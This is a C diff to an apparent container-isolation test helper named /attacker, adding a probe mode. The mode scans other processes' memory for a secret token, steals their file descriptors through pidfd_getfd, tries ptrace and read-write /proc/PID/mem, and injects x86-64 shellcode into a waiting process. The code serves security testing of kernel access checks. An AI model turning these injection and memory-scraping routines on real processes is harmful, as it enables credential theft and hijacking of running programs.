@@ -18,7 +18,28 @@
  *                         written back ("ok" or errno)
  *
  * then "done" and exit 0 on SIGTERM. Arguments: more programs of the container's own
- * (their exe paths) besides /bin/busybox and /attacker. */
+ * (their exe paths) besides /bin/busybox and /attacker.
+ *
+ * With "--probe" as its first argument it is driven instead (a window made deterministic
+ * by the test, a staged or parked init, does not need a race): it reads commands on
+ * stdin, one a line, and answers on stdout:
+ *
+ *   secret TOKEN    from now on, scan the memory of every process granted for TOKEN
+ *   PID             try everything on PID, once: the exe link (kept, as above), mem
+ *                   read-write, environ, maps, fd/ (each entry opened O_PATH and
+ *                   O_RDWR), pidfd_getfd of descriptors 0..63, process_vm_readv,
+ *                   PTRACE_SEIZE + PTRACE_INTERRUPT (then detached), a signal 0; then
+ *                   the memory scan. "got PID WHAT ..." for what the kernel granted,
+ *                   "denied PID WHAT ERRNO" for what it refused, "absent PID" if it is
+ *                   not in our pid namespace, "probed PID" at the end
+ *   self            our own descriptors ("selffd N TARGET") and the pids of our /proc
+ *                   ("proc PID")
+ *   inject PID      (x86-64) write a payload over the code PID returns to from the
+ *                   syscall it waits in (/proc/PID/syscall, /proc/PID/mem): "got PID
+ *                   inject PC" if the kernel let us; see payload[]
+ *   write / EOF     the exewrite attempts above; on EOF then "done" and exit 0
+ *
+ * Arguments after --probe are PIDs probed before stdin is read. */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -27,6 +48,11 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 static volatile sig_atomic_t stop;
@@ -139,9 +165,13 @@ static void try_pid(int pid)
     fflush(stdout);
 }
 
+static void write_kept(void);
+static int probe_main(char **argv);
+
 int main(int argc, char **argv)
 {
-    (void)argc;
+    if (argc > 1 && strcmp(argv[1], "--probe") == 0)
+        return probe_main(argv + 2);
     own_programs = argv + 1;
     struct sigaction sa = { .sa_handler = on_term };
     sigaction(SIGTERM, &sa, NULL);
@@ -160,6 +190,13 @@ int main(int argc, char **argv)
         }
         closedir(d);
     }
+    write_kept();
+    printf("done\n");
+    return 0;
+}
+
+static void write_kept(void)
+{
     for (int i = 0; i < nkept; i++) {
         char p[64];
         snprintf(p, sizeof(p), "/proc/self/fd/%d", kept[i]);
@@ -180,6 +217,312 @@ int main(int argc, char **argv)
         if (w >= 0)
             close(w);
     }
+    nkept = 0;
+}
+
+/* --- probe mode ------------------------------------------------------------------- */
+
+static char secret[512];
+
+static void denied(int pid, const char *what, int err)
+{
+    printf("denied %d %s %d\n", pid, what, err);
+}
+
+/* Every readable region of PID's memory (through an open mem descriptor) searched for
+ * the secret: "got PID secret ADDR" when it is there, else "scanned PID BYTES". */
+static void scan_memory(int pid, int mem)
+{
+    char path[64], line[512];
+    snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+    FILE *maps = fopen(path, "re");
+    if (!maps) {
+        denied(pid, "scan", errno);
+        return;
+    }
+    size_t len = strlen(secret), total = 0;
+    static char buf[1 << 20];
+    int found = 0;
+    while (!found && fgets(line, sizeof(line), maps)) {
+        unsigned long lo, hi;
+        char perms[8];
+        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r')
+            continue;
+        for (unsigned long at = lo; !found && at < hi; ) {
+            /* Overlap the chunks by the secret's length: it may straddle two. */
+            size_t want = hi - at < sizeof(buf) ? hi - at : sizeof(buf);
+            ssize_t n = pread(mem, buf, want, (off_t)at);
+            if (n <= 0)
+                break;
+            total += (size_t)n;
+            if (memmem(buf, (size_t)n, secret, len)) {
+                printf("got %d secret %lx\n", pid, at);
+                found = 1;
+            }
+            if ((size_t)n < len + 1 || at + (unsigned long)n >= hi)
+                break;
+            at += (unsigned long)n - len;
+        }
+    }
+    fclose(maps);
+    if (!found)
+        printf("scanned %d %zu\n", pid, total);
+}
+
+/* A read-write mem: write back the first byte of its first executable mapping (what is
+ * there already, so nothing changes): the kernel lets us rewrite its code. */
+static void write_code(int pid, int mem)
+{
+    char path[64], line[512];
+    snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+    FILE *maps = fopen(path, "re");
+    if (!maps)
+        return;
+    unsigned long lo = 0, hi;
+    char perms[8];
+    while (fgets(line, sizeof(line), maps))
+        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[2] == 'x' &&
+            !strchr(line, '['))           /* its own code, not the vdso */
+            break;
+        else
+            lo = 0;
+    fclose(maps);
+    char byte;
+    if (!lo || pread(mem, &byte, 1, (off_t)lo) != 1)
+        return;
+    if (pwrite(mem, &byte, 1, (off_t)lo) == 1)
+        printf("got %d codewrite %lx\n", pid, lo);
+    else
+        denied(pid, "codewrite", errno);
+}
+
+static void probe_file(int pid, const char *name, int flags)
+{
+    char path[64], buf[64];
+    snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
+    int fd = open(path, flags | O_CLOEXEC);
+    if (fd < 0) {
+        denied(pid, name, errno);
+        return;
+    }
+    /* environ and maps check again at read: an open alone proves little. */
+    ssize_t n = read(fd, buf, sizeof(buf));
+    if (n >= 0 || flags != O_RDONLY)
+        printf("got %d %s %zd\n", pid, name, n);
+    else
+        denied(pid, name, errno);
+    close(fd);
+}
+
+static void probe_pid(int pid)
+{
+    char path[64], target[512];
+    snprintf(path, sizeof(path), "/proc/%d", pid);
+    if (access(path, F_OK) < 0) {
+        printf("absent %d\n", pid);
+        if (kill(pid, 0) == 0)
+            printf("got %d signal\n", pid);   /* a process /proc does not show */
+        printf("probed %d\n", pid);
+        return;
+    }
+    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+    ssize_t n = readlink(path, target, sizeof(target) - 1);
+    if (n >= 0) {
+        target[n] = 0;
+        int fd = open(path, O_PATH | O_CLOEXEC);
+        if (fd >= 0) {
+            printf("got %d exe %s\n", pid, target);
+            if (nkept < 4096)
+                kept[nkept++] = fd;
+            else
+                close(fd);
+        }
+    } else {
+        denied(pid, "exe", errno);
+    }
+    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+    int mem = open(path, O_RDWR | O_CLOEXEC);
+    if (mem >= 0)
+        printf("got %d mem rw\n", pid);
+    else
+        denied(pid, "mem", errno);
+    if (mem < 0 && (mem = open(path, O_RDONLY | O_CLOEXEC)) >= 0)
+        printf("got %d mem ro\n", pid);
+    /* First, while it waits as it was: what follows may disturb it. */
+    if (mem >= 0 && secret[0])
+        scan_memory(pid, mem);
+    if (mem >= 0)
+        write_code(pid, mem);
+    probe_file(pid, "environ", O_RDONLY);
+    probe_file(pid, "maps", O_RDONLY);
+    snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+    DIR *d = opendir(path);
+    if (d) {
+        struct dirent *de;
+        while ((de = readdir(d))) {
+            if (de->d_name[0] == '.')
+                continue;
+            char fdpath[300];
+            snprintf(fdpath, sizeof(fdpath), "/proc/%d/fd/%s", pid, de->d_name);
+            ssize_t m = readlink(fdpath, target, sizeof(target) - 1);
+            target[m >= 0 ? m : 0] = 0;
+            int f = open(fdpath, O_PATH | O_CLOEXEC);
+            if (f >= 0) {
+                printf("got %d fd/%s %s\n", pid, de->d_name, target);
+                close(f);
+            } else {
+                denied(pid, "fd", errno);
+            }
+            /* A socket refuses an open through its link (ENXIO) even when the check
+             * passed: only pidfd_getfd below steals it. A FIFO is left alone: opened, it
+             * would release a staged init waiting for its reader. */
+            struct stat st;
+            if (stat(fdpath, &st) == 0 && !S_ISFIFO(st.st_mode) &&
+                (f = open(fdpath, O_RDWR | O_CLOEXEC)) >= 0) {
+                printf("got %d fdopen/%s %s\n", pid, de->d_name, target);
+                close(f);
+            }
+        }
+        closedir(d);
+    } else {
+        denied(pid, "fd", errno);
+    }
+    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
+    if (pidfd >= 0) {
+        int first = 0;
+        for (int i = 0; i < 64; i++) {
+            int f = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
+            if (f < 0) {
+                if (errno != EBADF && !first++)
+                    denied(pid, "getfd", errno);
+                continue;
+            }
+            char self[64];
+            snprintf(self, sizeof(self), "/proc/self/fd/%d", f);
+            ssize_t m = readlink(self, target, sizeof(target) - 1);
+            target[m >= 0 ? m : 0] = 0;
+            printf("got %d getfd/%d %s\n", pid, i, target);
+            close(f);
+        }
+        close(pidfd);
+    } else {
+        denied(pid, "pidfd", errno);
+    }
+    /* An address nothing maps: EFAULT (or a byte) means the access check passed. */
+    char byte;
+    struct iovec local = { &byte, 1 }, remote = { (void *)0x1000, 1 };
+    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT)
+        printf("got %d vm\n", pid);
+    else
+        denied(pid, "vm", errno);
+    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
+        printf("got %d ptrace\n", pid);
+        /* Stop it to detach it (a running tracee cannot be), and let it go on. */
+        int status;
+        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
+            waitpid(pid, &status, __WALL);
+        ptrace(PTRACE_DETACH, pid, 0, 0);
+    } else {
+        denied(pid, "ptrace", errno);
+    }
+    printf(kill(pid, 0) == 0 ? "signal %d ok\n" : "signal %d denied\n", pid);
+    if (mem >= 0)
+        close(mem);
+    printf("probed %d\n", pid);
+}
+
+/* x86-64: sethostname("pwned", 5), then exit_group(42 + its result): 42 if it worked,
+ * 41 if refused (-EPERM). Written over the code a process returns to from the syscall it
+ * waits in, it runs as that process when the syscall returns. */
+static const unsigned char payload[] = {
+    0x48, 0x8d, 0x3d, 22, 0, 0, 0,     /* lea rdi, [rip + 22]: the name */
+    0xbe, 5, 0, 0, 0,                  /* mov esi, 5 */
+    0xb8, 170, 0, 0, 0,                /* mov eax, SYS_sethostname */
+    0x0f, 0x05,                        /* syscall */
+    0x8d, 0x78, 42,                    /* lea edi, [rax + 42] */
+    0xb8, 231, 0, 0, 0,                /* mov eax, SYS_exit_group */
+    0x0f, 0x05,                        /* syscall */
+    'p', 'w', 'n', 'e', 'd',
+};
+
+static void inject(int pid)
+{
+#if defined(__x86_64__)
+    char path[64], line[512];
+    snprintf(path, sizeof(path), "/proc/%d/syscall", pid);
+    FILE *f = fopen(path, "re");
+    if (!f || !fgets(line, sizeof(line), f)) {
+        denied(pid, "inject", errno);
+        if (f)
+            fclose(f);
+        return;
+    }
+    fclose(f);
+    /* "NR ARG1 ... ARG6 SP PC": where it goes on when the syscall returns. */
+    char *last = strrchr(line, ' ');
+    unsigned long pc = last ? strtoul(last + 1, NULL, 16) : 0;
+    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+    int mem = open(path, O_RDWR | O_CLOEXEC);
+    if (!pc || mem < 0) {
+        denied(pid, "inject", mem < 0 ? errno : EINVAL);
+        return;
+    }
+    if (pwrite(mem, payload, sizeof(payload), (off_t)pc) == (ssize_t)sizeof(payload))
+        printf("got %d inject %lx\n", pid, pc);
+    else
+        denied(pid, "inject", errno);
+    close(mem);
+#else
+    denied(pid, "inject", ENOSYS);
+#endif
+}
+
+static void probe_self(void)
+{
+    DIR *d = opendir("/proc/self/fd");
+    struct dirent *de;
+    char path[300], target[512];
+    while (d && (de = readdir(d))) {
+        if (de->d_name[0] == '.' || atoi(de->d_name) == dirfd(d))
+            continue;
+        snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
+        ssize_t m = readlink(path, target, sizeof(target) - 1);
+        target[m >= 0 ? m : 0] = 0;
+        printf("selffd %s %s\n", de->d_name, target);
+    }
+    if (d)
+        closedir(d);
+    d = opendir("/proc");
+    while (d && (de = readdir(d)))
+        if (atoi(de->d_name) > 0)
+            printf("proc %s\n", de->d_name);
+    if (d)
+        closedir(d);
+    printf("selfdone\n");
+}
+
+static int probe_main(char **argv)
+{
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    signal(SIGPIPE, SIG_IGN);
+    printf("ready %d\n", getpid());
+    for (; *argv; argv++)
+        probe_pid(atoi(*argv));
+    char line[512];
+    while (fgets(line, sizeof(line), stdin)) {
+        line[strcspn(line, "\n")] = 0;
+        if (strncmp(line, "secret ", 7) == 0)
+            snprintf(secret, sizeof(secret), "%s", line + 7);
+        else if (strcmp(line, "self") == 0)
+            probe_self();
+        else if (strncmp(line, "inject ", 7) == 0)
+            inject(atoi(line + 7));
+        else if (strcmp(line, "write") == 0)
+            write_kept();
+        else if (atoi(line) > 0)
+            probe_pid(atoi(line));
+    }
+    write_kept();
     printf("done\n");
     return 0;
 }
